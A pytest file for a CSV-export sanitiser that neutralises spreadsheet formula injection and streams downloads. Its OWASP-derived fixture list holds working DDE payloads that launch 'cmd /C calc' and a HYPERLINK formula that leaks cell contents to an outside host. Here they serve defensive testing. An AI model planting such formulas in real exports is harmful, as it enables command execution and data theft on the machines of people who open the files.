"""Cells a spreadsheet would run are neutralised; data a CRM or a script reads is left exactly as it is.

The attack strings are OWASP's (CSV Injection, and the "Comma Separated Vulnerabilities" write-up
it cites): formulas led by =, +, -, @, and by tab or carriage return.
"""

import csv
import io
from decimal import Decimal

import pytest

from clozit.csvsafe import safe_row, spreadsheet_safe, spreadsheet_text

OWASP_PAYLOADS = [
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "\n-3+3+cmd|' /C calc'!E1",
    "@cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2-3",
    "+1 (415) 555-0132",  # a number written for people is text with a formula's start, not a plain number
    "+1e5+cmd|' /C calc'!A0",
    "＝cmd|' /C calc'!A0",  # the full-width sign Japanese Excel also reads as "="
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_formula_is_neutralised(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        "+14155550132",  # E.164: what a CRM, a dialer or a script expects, byte for byte
        "+442079460123",
        "-12",
        "-12.50",
        "+3.5",
        "-.5",
        "42",
        "Ann O'Neil",
        "a=b",
        "a+b",
        "email@example.com",
        "",
        "+",  # a lone sign runs nothing
        "-",
    ],
)
def test_data_that_runs_nothing_is_written_as_it_is(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-2, Decimal("-1.50"), 3.25, None, 0])
def test_numbers_and_none_are_not_text_and_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_a_csv_written_with_safe_row_reads_back_with_the_numbers_intact():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["+14155550132", "=cmd|' /C calc'!A0", "-12.50", "Ann"]))

    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["+14155550132", "'=cmd|' /C calc'!A0", "-12.50", "Ann"]


@pytest.mark.parametrize("value", [*OWASP_PAYLOADS, "+14155550132", "Ann", "'quoted'", "'", ""])
def test_spreadsheet_text_reads_back_exactly_what_was_guarded(value):
    """Importing our own export gives back the value that was exported: the guard's apostrophe goes,
    an apostrophe the value itself starts with stays."""
    assert spreadsheet_text(spreadsheet_safe(value)) == value


def test_a_download_streams_in_batches_under_asgi_as_it_does_under_wsgi():
    """Served by uvicorn (ASGI), Django would read a plain iterator whole before sending a byte:
    the download is read a batch at a time instead, and says the same either way."""
    import asyncio
    import warnings

    from clozit.csvsafe import StreamedResponse, csv_download

    read = []

    def rows():
        for n in range(2_000):
            read.append(n)
            yield [f"+1202555{n:04d}", "Ada"]

    async def first_chunk(response):
        iterator = response.__aiter__()
        chunk = await iterator.__anext__()
        await iterator.aclose()
        return chunk

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # Django warns when it must consume an iterator whole
        chunk = asyncio.run(first_chunk(csv_download(rows(), "contacts")))
    assert chunk.startswith(b"+12025550000,Ada\r\n")
    assert len(read) == StreamedResponse.batch  # one batch read, not the whole file

    whole = b"".join(csv_download(([f"+1202555{n:04d}", "Ada"] for n in range(2_000)), "contacts"))
    assert whole.count(b"\r\n") == 2_000
